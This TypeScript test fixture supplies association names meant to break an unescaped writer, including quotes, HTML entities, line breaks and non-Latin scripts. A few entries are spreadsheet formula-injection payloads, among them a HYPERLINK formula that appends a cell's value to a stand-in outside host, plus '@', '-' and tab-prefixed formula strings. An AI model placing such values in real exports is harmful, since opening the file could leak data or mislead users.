import type { Site } from '../../src/model/site.ts';
import { SOUND } from '../checks/directory.ts';

type Data =
  Site['associations'] extends ReadonlyMap<string, infer A> ? (A extends { data: infer D } ? D : never) : never;

/** Names that break a writer who escapes nothing: marks of every form, formulas, line breaks, other scripts. */
export const TRICKY_NAMES: readonly [language: string, name: string][] = [
  ['it', 'Unione "Alfa", Beta; Gamma\\Delta: <b>&amp;</b>'],
  ['en', '=HYPERLINK("https://x.example/?"&A1,"Click")'],
  ['fr', '+1,5 % ; « procureurs »'],
  ['de', '-2+3|Prüfer'],
  ['es', '@SUM(1+1)*cmd'],
  ['pt', 'Uma linha\r\noutra linha\ne mais uma'],
  ['ar', 'جمعية النيابة العامة، «العدالة»; (١)'],
  ['zh-Hans', '检察官协会，“正义”；第一部分是一个很长很长很长很长很长很长很长很长很长的名称'],
  ['ru', 'Ассоциация прокуроров и следователей, «Закон», с очень длинным названием; часть 2'],
  ['ja', '＝全角 数式'],
  ['sr', '\t=1+1'],
];

/** Associations with tricky names in the place of those of a site: nothing that the check would let through. */
export function withTrickyNames(site: Site): Site {
  const associations = TRICKY_NAMES.map(([language, name], index) => {
    const id = `tricky-${index}`;
    const data = {
      ...(SOUND as unknown as Data),
      names: { [language]: name, el: 'Ένωση' },
      ownLanguage: language,
      scope: { country: index % 2 === 0 ? 'IT' : 'IR' },
      seat: { city: name, country: 'IT' },
      website: { address: 'https://tricky.example/?a=1&b=2,3;4', status: 'ok' },
      email: { address: 'info@tricky.example' },
      description: { it: name },
      history: [{ date: '2025-01-02', change: 'renamed', note: { it: name } }],
    } as Data;
    return [id, { id, file: `data/associations/${id}.json`, data }] as const;
  });
  return { ...site, associations: new Map(associations) };
}
